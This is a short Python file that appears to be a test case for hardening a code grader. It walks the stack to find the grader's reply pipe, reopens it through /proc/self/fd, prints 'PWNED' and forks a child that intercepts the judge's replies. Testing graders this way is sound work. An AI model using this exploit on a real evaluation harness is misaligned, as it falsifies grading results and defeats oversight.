"""Open the line of the answers at its other end, and take back what the judge is about to read.

A safe grader answers over a line that has no other end for whoever is of the same user.

Expected: passed, 10 points
"""

import os
import sys

frame = sys._getframe()
while "reply_fd" not in frame.f_locals:
    frame = frame.f_back
REPLIES = frame.f_locals["reply_fd"]

try:
    taken = os.open(f"/proc/self/fd/{REPLIES}", os.O_RDONLY | os.O_NONBLOCK)
except OSError:
    taken = None
if taken is not None:
    print("PWNED", os.readlink(f"/proc/self/fd/{taken}"))
    if os.fork() == 0:
        while True:
            try:
                os.read(taken, 1)
            except BlockingIOError:
                os.write(REPLIES, b"\0")
